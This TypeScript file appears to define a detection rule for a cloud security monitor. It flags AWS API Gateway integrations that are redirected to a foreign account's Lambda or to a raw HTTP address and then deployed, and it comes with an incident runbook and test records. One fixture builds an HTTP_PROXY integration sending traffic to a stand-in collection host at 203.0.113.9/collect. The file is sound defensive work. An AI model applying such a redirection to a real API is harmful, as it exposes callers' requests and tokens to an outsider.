import { defineSequence } from '../define.ts';
import { iamUser, patch, restApi } from '../example.ts';
import { DEPLOYED } from './goes-live.ts';

const api = { restApiId: 'a1b2c3d4e5' };
const method = { ...api, resourceId: 'x1y2z3', httpMethod: 'POST' };
const uri = (account: string) =>
  `arn:aws:apigateway:eu-central-1:lambda:path/2015-03-31/functions/arn:aws:lambda:eu-central-1:${account}:function:orders/invocations`;
const target = (account: string, minute: number, of = method) =>
  patch('UpdateIntegration', of, [['replace', '/uri', uri(account)]], { minute });
const raw = (minute: number) =>
  restApi(
    'PutIntegration',
    method,
    { type: 'HTTP_PROXY', httpMethod: 'POST', uri: 'http://203.0.113.9/collect' },
    { minute },
  );
const deployed = (minute: number) => restApi('CreateDeployment', api, { stageName: 'prod' }, { minute, by: iamUser() });

export default defineSequence({
  id: 'seq-api-traffic-hijack',
  topic: 'B',
  title: 'API traffic sent somewhere else',
  severity: 'critical',
  attack: ['T1565.002', 'T1557'],
  why: 'Callers go on as before while what they send, tokens included, is read or answered by somebody else.',
  benign: ['A backend moves to another account, which then belongs on the list of trusted accounts'],
  runbook: [
    'Point the stage back first: aws apigateway get-deployments --rest-api-id {api} --region {region}, then update the stage to the deployment before {time}.',
    'Look at every integration: aws apigateway get-resources --rest-api-id {api} --embed methods --region {region} (uri, connectionId); compare with the template.',
    'What callers sent since the deployment is known to others: rotate keys and tokens that passed through {api}.',
    'Take the credentials of {principal} (key {key}, from {ip}) away and look at what they did from {time-24h} to {time+1h}, the way back included.',
  ],
  key: 'api',
  withinHours: 24,
  ordered: true,
  steps: [
    {
      title: 'backend replaced',
      detections: [
        'apigw-integration-foreign-lambda',
        'apigw-integration-raw-http',
        'apigw-integration-uri-changed',
        'apigw-stage-variable-changed',
      ],
      minSeverity: 'high',
    },
    DEPLOYED,
  ],
  examples: () => ({
    fires: [
      {
        title: 'a foreign function, then deployed',
        severity: 'critical',
        records: [target('999999999999', 0), deployed(30)],
      },
      {
        title: 'a raw address, deployed by somebody else the same day',
        severity: 'critical',
        records: [raw(0), deployed(600)],
      },
    ],
    quiet: [
      { title: 'a function of one’s own', records: [target('111111111111', 0), deployed(30)] },
      { title: 'not deployed', records: [target('999999999999', 0)] },
      { title: 'deployed before', records: [deployed(-5), target('999999999999', 0)] },
      {
        title: 'of another API',
        records: [target('999999999999', 0, { ...method, restApiId: 'z9y8x7w6v5' }), deployed(30)],
      },
      { title: 'a trusted account', trusted: ['999999999999'], records: [target('999999999999', 0), deployed(30)] },
    ],
  }),
});
